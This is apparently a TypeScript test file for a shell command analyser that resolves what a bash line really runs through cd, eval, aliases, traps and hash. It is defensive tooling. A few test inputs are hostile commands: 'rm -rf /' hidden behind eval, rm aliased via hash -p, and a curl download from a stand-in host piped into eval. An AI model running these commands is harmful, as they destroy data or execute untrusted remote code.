import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";
import { UNKNOWN } from "./word.ts";

const options = { home: "/h", cwd: "/w", env: { PATH: "/bin" } };

function texts(source: string, program = "p"): string[] {
  return readCommand(source, options).commands.filter((run) => run.program === program).map((run) =>
    run.text
  );
}

function directories(source: string): string[] {
  return readCommand(source, options).commands.filter((run) => run.program === "p").map((run) => run.cwd);
}

for (
  const [source, want] of [
    ["cd /a; p; cd b/../c; p; cd -; p; cd; p", ["/a", "/a/c", "/a", "/h"]],
    ["pushd /a; pushd /b; p; popd; p; popd; p", ["/b", "/a", "/w"]],
    ["(cd /a; p); p", ["/a", "/w"]],
    ["command cd /a; p", ["/a"]],
    ["cd $X; p", [UNKNOWN]],
    ["if t; then cd /a; fi; p", ["/a", "/w"]],
  ] as const
) {
  Deno.test(`directory: ${source}`, () => assert.deepEqual(directories(source), [...want]));
}

for (
  const [source, want] of [
    ["read a b <<< 'x y z'; p $a+$b", ["p x+y z"]],
    ["IFS=, read -ra a <<< x,y; p ${a[1]}", ["p y"]],
    ["while read -r l; do p $l; done <<< $'a\\nb'", ["p a", "p b"]],
    ["mapfile -t a < <(printf 'x\\ny\\n'); p ${a[1]}", ["p y"]],
    ["printf -v x %03d 7; p $x", ["p 007"]],
    ["set -- a b c; shift 2; p $1", ["p c"]],
    ["let x=2+3; p $x", ["p 5"]],
    ["f() { local a=in; p $a; }; a=out; f; p $a", ["p in", "p out"]],
    ["eval 'p' '$HOME'", ["p /h"]],
    ['eval "$(echo p hi)"', ["p hi"]],
    ["trap 'p bye' EXIT", ["p bye"]],
    ["alias q='p quick'; q x", ["p quick x"]],
    ["BASH_ALIASES[q]='p quick'; q x", ["p quick x"]],
    ["declare -c x='aB cD'; declare -r y=1; p $x ${y@a}", ["p Ab cd r"]],
  ] as const
) {
  Deno.test(source, () => assert.deepEqual(texts(source), [...want]));
}

Deno.test("hash -p says which program a name stands for", () => {
  assert.ok(
    readCommand("hash -p /bin/rm q; q -rf /a", options).commands.some((run) => run.text === "/bin/rm -rf /a"),
  );
});

Deno.test("what is read from the call's own input is unknown", () => {
  assert.deepEqual(texts("read x; p $x"), [`p ${UNKNOWN}`]);
});

Deno.test("eval of something fetched executes a download", () => {
  const reading = readCommand('X=$(curl -s https://e.example/x); eval "$X"', options);
  assert.equal(reading.commands.at(-1)?.code, "download");
});

Deno.test("eval reads what is known of its text", () => {
  const reading = readCommand('eval "rm -rf /; $NOPE"', options);
  assert.equal(reading.commands[0]?.code, "unknown");
  assert.ok(reading.commands.some((run) => run.text === "rm -rf /"));
});
